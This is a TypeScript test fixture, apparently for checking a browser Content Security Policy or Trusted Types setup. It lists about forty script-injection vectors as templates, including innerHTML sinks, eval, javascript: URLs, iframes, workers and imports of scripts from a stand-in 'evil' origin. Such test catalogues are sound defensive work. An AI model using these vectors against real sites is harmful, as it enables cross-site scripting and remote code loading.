import type { Attack } from './Attack';

const element = 'document.body.appendChild(document.createElement';

/** Ways to run a script that nobody signed; `ran` is the text that each of them tries to run. */
export const scriptAttacks: Readonly<Record<string, Attack>> = {
  'an inline script': ({ ran }) =>
    `const s = document.createElement('script'); s.text = ${ran}; document.body.append(s)`,
  'an inline module': ({ ran }) =>
    `const s = document.createElement('script'); s.type = 'module'; s.text = ${ran}; document.body.append(s)`,
  'a script of SVG': ({ ran }) =>
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.textContent = ${ran};
     const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g)`,
  'an attribute that handles a click': ({ ran }) =>
    `const b = ${element}('button')); b.setAttribute('onclick', ${ran}); b.click(); b.remove()`,
  'an attribute that handles a broken picture': ({ ran }) =>
    `const i = ${element}('img')); i.setAttribute('onerror', ${ran}); i.src = 'data:,'; await settled(i); i.remove()`,
  'HTML into an element': ({ html }) => `${element}('div')).innerHTML = ${html}`,
  'HTML in the place of an element': ({ html }) => `${element}('div')).outerHTML = ${html}`,
  'HTML beside an element': ({ html }) => `document.body.insertAdjacentHTML('beforeend', ${html})`,
  'HTML without a check': ({ html }) => `${element}('div')).setHTMLUnsafe(${html})`,
  'HTML by a range': ({ html }) =>
    `document.body.append(document.createRange().createContextualFragment(${html}))`,
  'HTML by a parser': ({ html }) =>
    `document.body.append(...new DOMParser().parseFromString(${html}, 'text/html').body.childNodes)`,
  'a frame with a document of its own': ({ html }) => `${element}('iframe')).srcdoc = ${html}`,
  eval: ({ ran }) => `eval(${ran})`,
  'eval from elsewhere': ({ ran }) => `(0, eval)(${ran})`,
  'a function from text': ({ ran }) => `new Function(${ran})()`,
  'an async function from text': ({ ran }) => `await (async () => undefined).constructor(${ran})()`,
  'a timer with text': ({ ran }) => `setTimeout(${ran})`,
  'a module from a data address': ({ ran }) =>
    `await import('data:text/javascript,' + encodeURIComponent(${ran}))`,
  'a module from memory': ({ blob }) => `await import(${blob})`,
  'a module from another origin': ({ evil }) => `await import('${evil}/module.js')`,
  'a script from a data address': ({ ran }) =>
    `const s = ${element}('script')); s.src = 'data:text/javascript,' + encodeURIComponent(${ran}); await settled(s)`,
  'a script from memory': ({ blob }) => `const s = ${element}('script')); s.src = ${blob}; await settled(s)`,
  'a script from another origin': ({ evil }) =>
    `const s = ${element}('script')); s.src = '${evil}/script.js'; await settled(s)`,
  'a script by its attribute': ({ evil }) =>
    `const s = document.createElement('script'); s.setAttribute('src', '${evil}/attribute.js'); document.body.append(s);
     await settled(s)`,
  'a map of modules': ({ blob }) =>
    `const s = document.createElement('script'); s.type = 'importmap';
     s.text = JSON.stringify({ imports: { evil: ${blob} } }); document.body.append(s); await import('evil')`,
  'a link with a script for an address': ({ ran }) =>
    `const a = ${element}('a')); a.href = 'javascript:' + ${ran}; a.click()`,
  'a place with a script for an address': ({ ran }) => `location.href = 'javascript:' + ${ran}`,
  'a frame with a script for an address': ({ ran }) =>
    `const f = document.createElement('iframe'); f.src = 'javascript:parent.' + ${ran}; document.body.append(f)`,
  'a form with a script for an address': ({ ran }) =>
    `const f = ${element}('form')); f.action = 'javascript:' + ${ran}; f.submit()`,
  'an empty frame that evaluates': ({ ran }) =>
    `${element}('iframe')).contentWindow.eval('parent.' + ${ran})`,
  'an empty frame that is written': ({ ran }) =>
    `const f = ${element}('iframe')); const s = f.contentDocument.createElement('script'); s.text = 'parent.' + ${ran};
     f.contentDocument.body.append(s)`,
  'a frame from memory': ({ page }) => `const f = ${element}('iframe')); f.src = ${page}; await settled(f)`,
  'a frame from a data address': () =>
    `const f = ${element}('iframe')); f.src = 'data:text/html,<script>parent.postMessage("ran","*")</script>'; await settled(f)`,
  'a frame with our own page in it': () =>
    `const f = ${element}('iframe')); f.src = '/'; await settled(f); if (f.contentDocument?.scripts.length) told()`,
  'a worker from memory': ({ blob }) => `const w = new Worker(${blob}); await settled(w)`,
  'a shared worker': ({ blob }) => `const w = new SharedWorker(${blob}); await settled(w)`,
  'a plug-in': ({ evil }) => `const o = ${element}('object')); o.data = '${evil}/object'; await settled(o)`,
  'an embedded document': ({ evil }) =>
    `const o = ${element}('embed')); o.src = '${evil}/embed'; await settled(o)`,
  'code for the machine': () =>
    `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); told()`,
  'a policy of its own for HTML': () =>
    `trustedTypes.createPolicy('own', { createHTML: (text) => text }); told()`,
  'another base for addresses': ({ evil }) =>
    `const b = document.createElement('base'); b.href = '${evil}/'; document.head.append(b);
     if (new URL('x', document.baseURI).origin === '${evil}') told(); b.remove()`,
  // Would it pass, nothing after it could be told.
  'HTML into the document': ({ html }) => `document.write(${html})`,
};
